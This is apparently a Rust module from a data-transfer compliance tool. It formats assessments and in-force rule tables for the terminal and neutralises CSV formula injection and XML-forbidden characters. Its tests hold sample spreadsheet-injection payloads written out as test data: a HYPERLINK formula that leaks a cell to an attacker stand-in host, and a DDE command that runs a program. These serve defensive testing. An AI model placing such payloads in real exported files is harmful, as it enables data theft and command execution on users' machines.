//! Plain-text rendering of assessments and rule tables for the terminal, and the one filter
//! every text document (HTML, Atom, CSV) passes through before it is sent.

use std::borrow::Cow;
use std::fmt::Write;

use crate::rules::{Assessment, Citation, InForce};

fn cite(c: &Citation) -> String {
    format!("{} — {} [{}]", c.rule, c.reference, c.confidence.tag())
}

/// A short human answer: the verdict, why, and what to do.
pub fn assessment(a: &Assessment) -> String {
    let mut out = String::new();
    let flag = if a.flagged { "FLAGGED, " } else { "" };
    let verdict = match (a.verdict.label(), a.verdict.as_str()) {
        (label, value) if label == value => label.to_string(),
        (label, value) => format!("{label} ({value})"),
    };
    let _ = writeln!(out, "Regime:     {}", a.regime.unwrap_or("none"));
    let _ = writeln!(out, "Verdict:    {verdict} — {flag}{}", a.severity.as_str());
    let (reason, hints) = a.words();
    let _ = writeln!(out, "Reason:     {reason}");
    let _ = writeln!(out, "Mechanism:  {}", a.mechanism.unwrap_or("none"));
    for (i, r) in a.references.iter().enumerate() {
        let label = if i == 0 { "References:" } else { "" };
        let _ = writeln!(out, "{label:<11} {}", cite(r));
    }
    for (i, h) in hints.iter().enumerate() {
        let label = if i == 0 { "Hints:" } else { "" };
        let _ = writeln!(out, "{label:<11} - {h}");
    }
    out
}

/// The rules in force on a date, one section per kind.
pub fn rules_in_force(r: &InForce) -> String {
    let mut out = String::new();
    let _ = writeln!(out, "{} — in force on {}", r.name, r.as_of);
    let _ = writeln!(out, "Regime: {} ({})", r.regime, r.label);

    let _ = writeln!(out, "\nLaw governing exporters:");
    if r.laws.is_empty() {
        let _ = writeln!(
            out,
            "  none: no transfer rules of {} applied on this date",
            r.label
        );
    }
    for l in &r.laws {
        let _ = writeln!(
            out,
            "  {:<16} {:<22} {}",
            l.group_name,
            l.law_name,
            cite(l.source)
        );
    }

    let _ = writeln!(
        out,
        "\nInside (no transfer, or a domestic one) ({} places):",
        r.inside.len()
    );
    for i in &r.inside {
        let status = match i.status {
            crate::rules::MembershipStatus::Member => "member",
            crate::rules::MembershipStatus::Transition => "transition period",
            crate::rules::MembershipStatus::Bridge => "treated as inside (destination only)",
        };
        let _ = writeln!(
            out,
            "  {}  {:<32} {:<9} {}",
            i.country, i.country_name, i.group, status
        );
    }

    let _ = writeln!(out, "\nAdequacy decisions:");
    if r.adequacy.is_empty() {
        let _ = writeln!(out, "  none");
    }
    for a in &r.adequacy {
        let until = a
            .valid_until
            .map(|d| format!(" until {d} (exclusive)"))
            .unwrap_or_default();
        let since = a
            .valid_from
            .map(|d| format!("since {d}"))
            .unwrap_or_default();
        let _ = writeln!(
            out,
            "  {:<6} {:<28} {since}{until}",
            a.country.as_str(),
            a.country_name
        );
        let partial = if a.partial_scope { "only: " } else { "" };
        let _ = writeln!(out, "         scope: {partial}{}", a.scope);
        if !a.excludes.is_empty() {
            let _ = writeln!(
                out,
                "         not if the record states: {}",
                a.excludes.join(", ")
            );
        }
        if let Some(groups) = &a.binds_only {
            let _ = writeln!(out, "         binds exporters in: {}", groups.join(", "));
        }
        let _ = writeln!(out, "         {}", cite(a.source));
    }

    for (title, list) in [
        (
            "Adequacy frameworks (importer must be on the list)",
            &r.frameworks,
        ),
        ("Appropriate safeguards (Art. 46/47)", &r.safeguards),
        ("Derogations (Art. 49; exceptions, flagged)", &r.derogations),
        (
            "A safeguard claimed but not named (verdict unverified, flagged)",
            &r.unnamed,
        ),
    ] {
        let _ = writeln!(out, "\n{title}:");
        if list.is_empty() {
            let _ = writeln!(out, "  none");
        }
        for m in list {
            let _ = writeln!(out, "  {:<32} {}", m.id, m.name);
            if let Some(before) = m.only_contracts_signed_before {
                let until = m.valid_until.and_then(|d| d.pred_opt());
                let until = until.map(|d| format!(", until {d}")).unwrap_or_default();
                let _ = writeln!(
                    out,
                    "  {:<32} old contracts only: signed before {before}{until}",
                    ""
                );
            }
            for (law, article) in &m.basis {
                let _ = writeln!(out, "  {:<32} {law}: {article}", "");
            }
            let _ = writeln!(out, "  {:<32} {}", "", cite(m.source));
        }
    }

    let _ = writeln!(
        out,
        "\nOpen points (not verified, or unsettled in the sources):"
    );
    if r.open_points.is_empty() {
        let _ = writeln!(out, "  none");
    }
    for p in r.open_points {
        let _ = writeln!(out, "  - {} [{}]", p.text, p.id);
    }
    out
}

/// A document without the characters XML 1.0 (§2.2) and HTML forbid: C0 controls but tab, LF
/// and CR, DEL, C1 controls, U+FFFE and U+FFFF. Input refuses them, yet a record stored before
/// that rule (or written to the database by hand) must not make a page or a feed ill-formed.
pub fn printable(s: &str) -> Cow<'_, str> {
    let bad = |c: char| match c {
        '\t' | '\n' | '\r' => false,
        '\u{fffe}' | '\u{ffff}' => true,
        c => c.is_control(),
    };
    if s.contains(bad) {
        Cow::Owned(s.chars().filter(|c| !bad(*c)).collect())
    } else {
        Cow::Borrowed(s)
    }
}

/// A CSV writer as spreadsheets and RFC 4180 want it: CRLF line ends, quotes where needed.
pub fn csv_writer() -> csv::Writer<Vec<u8>> {
    csv_writer_to(Vec::new())
}

/// [`csv_writer`] onto any writer.
pub fn csv_writer_to<W: std::io::Write>(out: W) -> csv::Writer<W> {
    csv::WriterBuilder::new()
        .terminator(csv::Terminator::CRLF)
        .from_writer(out)
}

/// A CSV cell that a spreadsheet shows as text, never runs: one beginning with `=`, `+`, `-`,
/// `@`, a tab or a CR is a formula to Excel, LibreOffice and Google Sheets, so it is prefixed with
/// a `'` (OWASP, CSV injection). What [`printable`] drops is dropped too.
pub fn csv_cell(s: &str) -> Cow<'_, str> {
    let s = printable(s);
    if s.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        Cow::Owned(format!("'{s}"))
    } else {
        s
    }
}

/// The byte order mark that makes Excel read a CSV file as UTF-8.
pub const UTF8_BOM: &[u8] = b"\xEF\xBB\xBF";

#[cfg(test)]
mod tests {
    #[test]
    fn csv_cells_never_start_a_formula() {
        for (cell, shown) in [
            (
                "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
                "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
            ),
            ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
            ("-2+3", "'-2+3"),
            ("@SUM(1+1)", "'@SUM(1+1)"),
            ("\t=1", "'\t=1"),
            ("\r=1", "'\r=1"),
            ("Qobuz", "Qobuz"),
            ("a=b", "a=b"),
        ] {
            assert_eq!(super::csv_cell(cell), shown);
        }
    }

    #[test]
    fn printable_drops_what_xml_forbids() {
        assert_eq!(
            super::printable("a\x07b\x0bc\x1bd\0e\u{85}f\tg\nh"),
            "abcdef\tg\nh"
        );
        assert!(matches!(
            super::printable("plain"),
            std::borrow::Cow::Borrowed(_)
        ));
    }
}
